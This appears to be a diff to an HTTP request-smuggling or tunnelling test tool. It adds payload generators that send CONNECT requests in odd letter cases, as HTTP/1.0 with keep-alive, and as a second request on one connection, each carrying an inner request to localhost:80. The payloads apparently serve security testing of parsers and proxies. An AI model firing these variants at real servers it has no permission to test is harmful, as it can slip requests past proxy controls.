@@ -52,6 +52,36 @@ def http1() -> Iterator[Payload]:
                         )  # fmt: skip
 
 
+def spellings() -> Iterator[Payload]:
+    """CONNECT in another case and version, and as the second request of a connection."""
+    for method in (b"connect", b"Connect"):
+        yield Payload(
+            f"connect-method-{method.decode()}", "connect", kinds=KINDS,
+            segments=lambda attack, method=method: [
+                attack.request(
+                    b"Content-Length: %d" % len(attack.inner), method=method, target=b"localhost:80", body=attack.inner
+                )
+            ],
+        )  # fmt: skip
+    yield Payload(
+        "connect-1.0", "connect", kinds=KINDS,
+        segments=lambda attack: [
+            attack.request(
+                b"Connection: keep-alive", b"Content-Length: %d" % len(attack.inner), method=b"CONNECT", version=b"1.0",
+                target=b"localhost:80", body=attack.inner,
+            )
+        ],
+    )  # fmt: skip
+    for target in ("authority", "path"):
+        yield Payload(
+            f"connect-second-{target}", "connect", kinds=KINDS,
+            segments=lambda attack, target=target: [
+                attack.request(method=b"GET"),
+                *_segments(target, "404", "length", 0, "at-once")(attack),
+            ],
+        )  # fmt: skip
+
+
 def _fields(*pairs: tuple[bytes, bytes]) -> Callable[[Attack], list[tuple[bytes, bytes]]]:
     return lambda attack: [
         (name, attack.path("outer") if value == b"PATH" else b"%d" % len(attack.inner) if value == b"LENGTH" else value)
